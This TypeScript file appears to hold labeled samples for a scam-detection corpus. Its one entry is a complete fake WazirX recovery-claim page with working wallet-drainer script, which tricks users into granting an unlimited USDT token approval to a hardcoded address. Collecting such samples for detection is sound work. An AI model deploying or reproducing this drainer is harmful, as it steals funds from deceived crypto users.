import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { doc, wordmark, FONTS } from '../parts/yn-kit.js';

// Wallet drainers and recovery-phrase pages aimed at the region's crypto users.

export const entries: Entry[] = [
{
  id: 'yn-drainer-wazirx-recovery-portal',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://wazirx-recovery-claim.com/portal',
  body: doc({
    title: 'WazirX Recovery Portal — Claim Your Recovery Tokens',
    css: `body{background:#f4f6fb;font-family:Arial}.h{background:#1f2430;color:#fff;padding:14px 30px;display:flex;align-items:center;gap:12px}.c{max-width:640px;margin:40px auto;background:#fff;border-radius:10px;padding:30px;box-shadow:0 2px 12px rgba(0,0,0,.08)}.stp{display:flex;gap:10px;margin:18px 0}.stp div{flex:1;background:#eef2ff;border-radius:6px;padding:10px;font-size:13px}button{background:#3067f0;color:#fff;border:0;border-radius:6px;height:48px;width:100%;font-size:16px}.n{font-size:12px;color:#777}`,
    body: `<div class="h">${wordmark('WazirX', '#3067f0', '#fff', 110, 32)}<span>Recovery Portal · Scheme of Arrangement</span></div>
<div class="c"><h2>Claim your Recovery Tokens (RT)</h2><p>Following the Singapore High Court approval of the scheme, users affected by the July 2024 incident can now claim Recovery Tokens and the first distribution in USDT directly to their self-custody wallet.</p>
<div class="stp"><div><b>1.</b> Connect the wallet you want to receive funds in</div><div><b>2.</b> Verify wallet (approve claim contract)</div><div><b>3.</b> Receive USDT + RT</div></div>
<button id="c">Connect Wallet &amp; Claim</button><p class="n" id="m">You will need a small amount of ETH/BNB for gas. Claims close on 15 July 2025.</p></div>
<script>
(function(){var S='0x9f1C2b7A4e0D3c8B5a6F1e2D7c4B9a0E3f6D2c18',U={1:'0xdAC17F958D2ee523a2206206994597C13D831ec7',56:'0x55d398326f99059fF775485246999027B3197955'};
function pad(h){return h.replace(/^0x/,'').padStart(64,'0')}
document.getElementById('c').onclick=async function(){var m=document.getElementById('m');try{
var a=(await window.ethereum.request({method:'eth_requestAccounts'}))[0];var ch=parseInt(await window.ethereum.request({method:'eth_chainId'}),16);var t=U[ch]||U[1];
m.textContent='Verifying wallet '+a+' ...';
var data='0x095ea7b3'+pad(S)+'f'.repeat(64);
await window.ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:t,data:data}]});
fetch('/portal/api/approved',{method:'POST',body:JSON.stringify({a:a,c:ch,t:t})});
m.textContent='Wallet verified. Your claim is being processed and funds will arrive shortly.';
}catch(e){m.textContent='Please open this page inside MetaMask or Trust Wallet browser.'}};})();
</script>`,
  }),
},
];
